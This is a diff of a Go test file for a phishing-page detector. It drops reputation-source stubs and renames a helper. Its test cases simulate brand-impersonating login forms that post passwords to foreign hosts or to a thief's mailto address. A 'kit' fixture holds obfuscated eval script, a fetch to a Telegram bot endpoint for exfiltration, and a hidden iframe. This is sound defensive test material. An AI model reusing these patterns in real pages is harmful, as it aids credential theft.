@@ -3,7 +3,6 @@ package phishing
 import (
 	"context"
 	"crypto/tls"
-	"errors"
 	"fmt"
 	"io"
 	"net/http"
@@ -43,22 +42,9 @@ func registered(w *diagtest.World, domain string, age int) {
 		domain, w.Now().AddDate(0, 0, -age).UTC().Format(time.RFC3339))})
 }
 
-type source struct {
-	id      string
-	threats []string
-	err     error
-}
-
-func (s source) ID() string   { return s.id }
-func (s source) Name() string { return "List " + s.id }
-func (s source) Lookup(ctx context.Context, _ *diag.Env, _ diag.URL) ([]string, error) {
-	return s.threats, s.err
-}
-
 var worlds = []struct {
 	name, url string
 	build     func(*diagtest.World)
-	sources   []Source
 	verdict   Verdict
 	codes     string // some of those found, and with a minus sign some that must not be
 	headline  string // a part of it
@@ -66,142 +52,136 @@ var worlds = []struct {
 	{"good", "https://example.com/", func(w *diagtest.World) {
 		w.HTTPS("example.com", markup("<title>Example</title><p>Hello"))
 		registered(w, "example.com", 3000)
-	}, nil, clean, "", "No phishing signal found"},
+	}, clean, "", "No phishing signal found"},
 	{"good with a login of its own", "https://example.com/", func(w *diagtest.World) {
 		w.HTTPS("example.com", login("Example", "/session"))
 		registered(w, "example.com", 3000)
-	}, []Source{source{id: "a"}}, clean, "-phishing.page.password.foreign -phishing.page.brand_login",
+	}, clean, "-phishing.page.password.foreign -phishing.page.brand_login",
 		"No phishing signal found"},
 	{"a brand's own", "https://www.paypal.com/signin?returnUri=https%3A%2F%2Fwww.paypal.com%2Fmyaccount",
 		func(w *diagtest.World) {
 			w.HTTPS("www.paypal.com", login("Log in to PayPal", "https://www.paypal.com/signin"))
-		}, nil, clean, "-phishing.url.keyword", "Host belongs to PayPal"},
+		}, clean, "-phishing.url.keyword", "Host belongs to PayPal"},
 	{"copy on another domain", "https://shop.example/", func(w *diagtest.World) {
 		w.HTTPS("shop.example", login("PayPal: log in", "https://collect.example/post.php"))
-	}, nil, Malicious, "phishing.page.brand_login phishing.page.password.foreign", "in the name of PayPal"},
+	}, Malicious, "phishing.page.brand_login phishing.page.password.foreign", "in the name of PayPal"},
 	{"mail form", "https://shop.example/", func(w *diagtest.World) {
 		w.HTTPS("shop.example", login("Netflix", "mailto:thief@example.net"))
-	}, nil, Suspicious, "phishing.page.password.nowhere phishing.page.brand_login", ""},
+	}, Suspicious, "phishing.page.password.nowhere phishing.page.brand_login", ""},
 	{"blog", "https://blog.example/", loginAt("blog.example", "Log In ‹ My Blog — WordPress", ""),
-		nil, clean, "-phishing.page.brand_login", ""},
+		clean, "-phishing.page.brand_login", ""},
 	{"software on its own host", "https://gitlab.firm.example/users/sign_in", loginAt("gitlab.firm.example",
 		"Sign in · GitLab", "/in"),
-		nil, clean, "-phishing.page.brand_login", ""},
+		clean, "-phishing.page.brand_login", ""},
 	{"login with a provider", "https://app.example/login", loginAt("app.example", "Sign in with Google | My App",
 		"https://accounts.google.com/o"),
-		nil, clean, "-phishing.page.brand_login -phishing.page.password.foreign", ""},
+		clean, "-phishing.page.brand_login -phishing.page.password.foreign", ""},
 	{"login at another company", "https://bank.example/", loginAt("bank.example", "Our Bank",
 		"https://bank-it.example/portal"),
-		nil, clean, "phishing.page.password.foreign", "Only weak"},
+		clean, "phishing.page.password.foreign", "Only weak"},
 	{"forum with a login on each page", "https://forum.example/t/1", loginAt("forum.example",
 		"PayPal does not pay me | Forum", "/login"),
-		nil, clean, "phishing.page.brand_title -phishing.page.brand_login", ""},
+		clean, "phishing.page.brand_title -phishing.page.brand_login", ""},
 	{"copy in other words", "https://shop.example/", loginAt("shop.example", "Log in to your PayPal account", "/x"),
-		nil, Suspicious, "phishing.page.brand_login", "in the name of PayPal"},
+		Suspicious, "phishing.page.brand_login", "in the name of PayPal"},
 	{"copy on a free host", "https://login-page.netlify.app/", loginAt("login-page.netlify.app", "Netflix", "/x"),
-		nil, Malicious, "phishing.page.brand_login phishing.host.free_hosting", "in the name of Netflix"},
+		Malicious, "phishing.page.brand_login phishing.host.free_hosting", "in the name of Netflix"},
 	{"new site of a club", "https://my-club.com/", func(w *diagtest.World) {
 		cert := w.Certificate(diagtest.CertSpec{Names: []string{"my-club.com"}, NotBefore: w.Now().AddDate(0, 0, -2)})
 		w.Site(diagtest.Site{Host: "my-club.com", Handler: markup("<title>My club</title><p>hello"),
 			TLS: &tls.Config{Certificates: []tls.Certificate{cert}, Time: w.Now}})
 		registered(w, "my-club.com", 3)
-	}, nil, clean, "phishing.tls.new phishing.registration.new", "Only weak"},
+	}, clean, "phishing.tls.new phishing.registration.new", "Only weak"},
 	{"plain http login", "http://shop.example/", func(w *diagtest.World) {
 		w.HTTP("shop.example", login("Shop", "/in"))
-	}, nil, clean, "phishing.page.password.insecure phishing.url.unencrypted", "Only weak"},
+	}, clean, "phishing.page.password.insecure phishing.url.unencrypted", "Only weak"},
 	{"insecure form on https", "https://shop.example/", func(w *diagtest.World) {
 		w.HTTPS("shop.example", login("Shop", "http://shop.example/in"))
-	}, nil, clean, "phishing.page.password.insecure", ""},
+	}, clean, "phishing.page.password.insecure", ""},
 	{"kit", "https://shop.example/wp-content/x/", func(w *diagtest.World) {
 		w.HTTPS("shop.example", markup(`<title>Sign in</title><link rel=icon href="https://www.paypal.com/favicon.ico">`+
 			`<script>eval(unescape("%64%6f"))</script><script>fetch("https://api.telegram.org/bot123:abc/sendMessage")</script>`+
 			`<iframe src="https://other.example/" style="display: none"></iframe>`+
 			`<a href="https://www.paypal.com/a">a</a><a href="https://www.paypal.com/b">b</a><a href="https://www.paypal.com/c">c</a>`+
 			`<a href="https://www.paypal.com/d">d</a><a href="https://www.paypal.com/e">e</a>`+fmt.Sprintf(password, "/x")))
-	}, nil, Malicious,
+	}, Malicious,
 		"phishing.page.icon phishing.page.obfuscated phishing.page.exfiltration phishing.page.hidden_frame " +
 			"phishing.page.links phishing.url.program_directory", "chat or form service"},
 	{"news about a brand", "https://news.example/", func(w *diagtest.World) {
 		w.HTTPS("news.example", markup("<title>PayPal warns of phishing</title><p>text"))
-	}, nil, clean, "phishing.page.brand_title", ""},
+	}, clean, "phishing.page.brand_title", ""},
 	{"page of nothing but a frame", "https://shop.example/", func(w *diagtest.World) {
 		w.HTTPS("shop.example", markup(`<title>x</title><iframe src="https://other.example/login"></iframe>`))
-	}, nil, clean, "phishing.page.frame", ""},
+	}, clean, "phishing.page.frame", ""},
 	{"links of its own", "https://shop.example/", func(w *diagtest.World) {
 		w.HTTPS("shop.example",
 			markup(`<title>x</title><link rel=icon href=/i.png><a href=/1>1</a><a href=/2>2</a><a href=/3>3</a>`+
 				`<a href=/4>4</a><a href=/5>5</a>`+fmt.Sprintf(password, "/x")))
-	}, nil, clean, "-phishing.page.links", ""},
+	}, clean, "-phishing.page.links", ""},
 	{"bad certificate and new domain", "https://shop-info.com/", func(w *diagtest.World) {
 		w.Site(diagtest.Site{Host: "shop-info.com", Handler: markup("<p>hello"), Cert: diagtest.CertSelfSigned})
 		registered(w, "shop-info.com", 3)
-	}, nil, Suspicious, "phishing.tls.invalid phishing.registration.new", "a few days old"},
+	}, Suspicious, "phishing.tls.invalid phishing.registration.new", "a few days old"},
 	{"young domain with a new certificate", "https://shop-info.com/", func(w *diagtest.World) {
 		cert := w.Certificate(diagtest.CertSpec{Names: []string{"shop-info.com"}, NotBefore: w.Now().AddDate(0, 0, -2)})
 		w.Site(diagtest.Site{Host: "shop-info.com", Handler: markup("<p>hello"),
 			TLS: &tls.Config{Certificates: []tls.Certificate{cert}, Time: w.Now}})
 		registered(w, "shop-info.com", 90)
-	}, nil, clean, "phishing.tls.new phishing.registration.young", ""},
+	}, clean, "phishing.tls.new phishing.registration.young", ""},
 	{"not registered", "https://nothing-there.com/", func(w *diagtest.World) {
 		w.RDAP("rdap.verisign.com", nil)
 		w.Whois("whois.verisign-grs.com", map[string]string{"": "No match for domain \"NOTHING-THERE.COM\".\r\n"})
-	}, nil, inconclusive, "phishing.registration.missing phishing.page.unknown", "no address"},
-	{"dead host", "https://gone.example/", nil, nil, inconclusive, "phishing.page.unknown", "no address"},
-	{"dead host of a lookalike", "https://paypa1.com/", nil, nil, Suspicious,
+	}, inconclusive, "phishing.registration.missing phishing.page.unknown", "no address"},
+	{"dead host", "https://gone.example/", nil, inconclusive, "phishing.page.unknown", "no address"},
+	{"dead host of a lookalike", "https://paypa1.com/", nil, Suspicious,
 		"phishing.page.unknown phishing.lookalike.homoglyph", "looks like PayPal"},
 	{"certificate not yet valid", "https://shop-info.com/", func(w *diagtest.World) {
 		w.Site(diagtest.Site{Host: "shop-info.com", Cert: diagtest.CertNotYetValid, Handler: markup("<p>hello")})
 		registered(w, "shop-info.com", 900)
-	}, nil, clean, "phishing.tls.invalid -phishing.tls.new", ""},
+	}, clean, "phishing.tls.invalid -phishing.tls.new", ""},
 	{"redirect with a password", "https://shop.example/", func(w *diagtest.World) {
 		w.HTTPS("shop.example", http.RedirectHandler("https://user:secret@www.shop.example/", http.StatusFound))
-	}, nil, inconclusive, "phishing.page.unknown", "redirects lead nowhere"},
+	}, inconclusive, "phishing.page.unknown", "redirects lead nowhere"},
 	{"private address", "https://inside.example/", func(w *diagtest.World) { w.Zone("inside.example. A 10.0.0.1\n") },
-		nil, inconclusive, "phishing.page.unknown", "is not public"},
+		inconclusive, "phishing.page.unknown", "is not public"},
 	{"name servers broken", "https://broken.example/", func(w *diagtest.World) {
 		w.Break("broken.example",
 			dns.RcodeServerFailure)
 	},
-		nil, inconclusive, "phishing.page.unknown", "Page could not be examined"},
+		inconclusive, "phishing.page.unknown", "Page could not be examined"},
 	{"refused", "https://shop.example/", func(w *diagtest.World) { w.HTTPS("shop.example", nil) },
-		nil, inconclusive, "phishing.page.unknown", "the server answered 404"},
+		inconclusive, "phishing.page.unknown", "the server answered 404"},
 	{"redirect to a lookalike", "https://short.example/x", func(w *diagtest.World) {
 		w.HTTPS("short.example", http.RedirectHandler("https://paypal-secure-login.com/", http.StatusFound))
 		w.HTTPS("paypal-secure-login.com", login("PayPal: log in", "/session"))
-	}, nil, Malicious, "phishing.lookalike.combo phishing.page.brand_login", "in the name of PayPal"},
+	}, Malicious, "phishing.lookalike.combo phishing.page.brand_login", "in the name of PayPal"},
 	{"meta refresh over three sites", "https://a.example/", func(w *diagtest.World) {
 		w.HTTPS("a.example", markup(`<meta http-equiv=refresh content="0;url=https://b.example/">`))
 		w.HTTPS("b.example", http.RedirectHandler("https://c.example/", http.StatusFound))
 		w.HTTPS("c.example", markup("<p>end"))
-	}, nil, clean, "phishing.redirect.document phishing.redirect.sites", ""},
+	}, clean, "phishing.redirect.document phishing.redirect.sites", ""},
 	{"loop", "https://a.example/", func(w *diagtest.World) {
 		w.HTTPS("a.example", http.RedirectHandler("https://b.example/", http.StatusFound))
 		w.HTTPS("b.example", http.RedirectHandler("https://a.example/", http.StatusFound))
-	}, nil, inconclusive, "phishing.page.unknown", "redirects lead nowhere"},
+	}, inconclusive, "phishing.page.unknown", "redirects lead nowhere"},
 	{"loop with a cookie", "https://a.example/", func(w *diagtest.World) {
 		w.HTTPS("a.example", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
 			w.Header().Set("Set-Cookie", "seen=1")
 			http.Redirect(w, r, "/", http.StatusFound)
 		}))
-	}, nil, inconclusive, "phishing.page.unknown", "need a cookie"},
-	{"listed", "https://shop.example/", func(w *diagtest.World) { w.HTTPS("shop.example", markup("<p>x")) },
-		[]Source{source{id: "a", threats: []string{"phishing"}}, source{id: "b"}}, Malicious, "phishing.source.match",
-		"listed"},
-	{"source silent", "https://shop.example/", func(w *diagtest.World) { w.HTTPS("shop.example", markup("<p>x")) },
-		[]Source{source{id: "a", err: errors.New("refused")}, source{id: "b",
-			err: context.DeadlineExceeded}}, inconclusive, "", "not every reputation source"},
+	}, inconclusive, "phishing.page.unknown", "need a cookie"},
 	{"no page", "https://shop.example/x.pdf", func(w *diagtest.World) {
 		w.HTTPS("shop.example", http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
 			w.Header().Set("Content-Type", "application/pdf")
 			io.WriteString(w, "%PDF")
 		}))
-	}, nil, clean, "", ""},
+	}, clean, "", ""},
 }
 
-// examine is Check without the report.
-func examine(t *testing.T, w *diagtest.World, c *checker, req Request) (*evidence, *Report) {
+// examined is Check without the report.
+func examined(t *testing.T, w *diagtest.World, req Request) (*evidence, *Report) {
 	t.Helper()
-	e, err := c.examine(t.Context(), w.Env(), req)
+	e, err := examine(t.Context(), w.Env(), req)
 	require.NoError(t, err)
 	return e, e.report(w.Env().Now())
 }
@@ -216,7 +196,7 @@ func TestCheck(t *testing.T) {
 			if tt.build != nil {
 				tt.build(w)
 			}
-			e, r := examine(t, w, &checker{Sources: tt.sources}, Request{URL: tt.url})
+			e, r := examined(t, w, Request{URL: tt.url})
 			seen.Add(rules().Judge(e, nil))
 			hold(t, r)
 			require.Equal(t, tt.verdict, r.Verdict, "%d %v", r.RiskScore, r.Signals)
@@ -286,7 +266,7 @@ func TestPartial(t *testing.T) {
 	w := diagtest.NewWorld(t)
 	w.HTTPS("example.com", markup("<p>x"))
 	registered(w, "example.com", 100)
-	_, r := examine(t, w, &checker{}, Request{URL: "example.com"})
+	_, r := examined(t, w, Request{URL: "example.com"})
 	require.False(t, r.Partial)
 	require.Equal(t, 100, *r.AgeDays)
 	require.True(t, r.TLS.Valid)
@@ -295,7 +275,7 @@ func TestPartial(t *testing.T) {
 
 	w = diagtest.NewWorld(t)
 	w.HTTPS("example.com", markup("<p>x"))
-	_, r = examine(t, w, &checker{}, Request{URL: "example.com"})
+	_, r = examined(t, w, Request{URL: "example.com"})
 	require.True(t, r.Partial, "no registry answered")
 	require.Nil(t, r.AgeDays)
 }
@@ -305,14 +285,11 @@ func TestSilence(t *testing.T) {
 	dead := &diag.Env{Resolver: closed{}}
 	_, err := Check(t.Context(), dead, Request{URL: "https://example.com/"})
 	require.ErrorIs(t, err, diag.ErrUnavailable)
-	r, err := (&checker{Sources: []Source{source{id: "a"}}}).Check(t.Context(), dead, Request{URL: "https://example.com/"})
-	require.NoError(t, err, "a source of ours answered")
-	require.Equal(t, inconclusive, r.Verdict)
 
 	w := diagtest.NewWorld(t)
 	for host, want := range map[string]Verdict{"example.com": clean, "example-login.com": inconclusive} {
 		w.HTTPS(host, markup("<p>x"))
-		_, r := examine(t, w, &checker{}, Request{URL: host})
+		_, r := examined(t, w, Request{URL: host})
 		require.Equal(t, want, r.Verdict, host)
 		require.True(t, r.Partial)
 	}
@@ -327,7 +304,7 @@ func TestForms(t *testing.T) {
 	w := diagtest.NewWorld(t)
 	w.HTTPS("example.com", markup(`<form><input name=q></form>`+fmt.Sprintf(password, "http://other.example/x")+
 		fmt.Sprintf(password, "data:text/html,x")))
-	_, r := examine(t, w, &checker{}, Request{URL: "https://example.com/"})
+	_, r := examined(t, w, Request{URL: "https://example.com/"})
 	require.Equal(t, []Form{
 		{ActionHost: "example.com"},
 		{ActionHost: "other.example", HasPassword: true, CrossOrigin: true, Insecure: true},
@@ -336,21 +313,10 @@ func TestForms(t *testing.T) {
 }
 
 func TestSources(t *testing.T) {
-	w := diagtest.NewWorld(t)
-	c := &checker{Sources: []Source{source{id: "a"}, source{id: "b", threats: []string{"malware"}}}}
-	off := false
-	r, err := c.Check(t.Context(), w.Env(), Request{URL: "example.com", Fetch: &off})
-	require.NoError(t, err)
-	require.Equal(t, sourceDisabled, r.Sources[1].Status)
-	require.Zero(t, r.Coverage.SourcesQueried)
-	r, err = c.Check(t.Context(), w.Env(), Request{URL: "example.com", Sources: []string{"a"}})
-	require.NoError(t, err)
-	require.Len(t, r.Sources, 1)
-	require.Equal(t, Coverage{1, 1, r.Coverage.HeuristicsRun}, r.Coverage)
-	_, err = c.Check(t.Context(), w.Env(), Request{URL: "example.com", Sources: []string{"a", "z"}})
+	_, err := Check(t.Context(), nil, Request{URL: "example.com", Sources: []string{"a"}})
 	var input *diag.InputError
 	require.ErrorAs(t, err, &input)
-	require.Equal(t, "sources[1]", input.Field)
+	require.Equal(t, "sources[0]", input.Field)
 }
 
 func TestContextEnds(t *testing.T) {
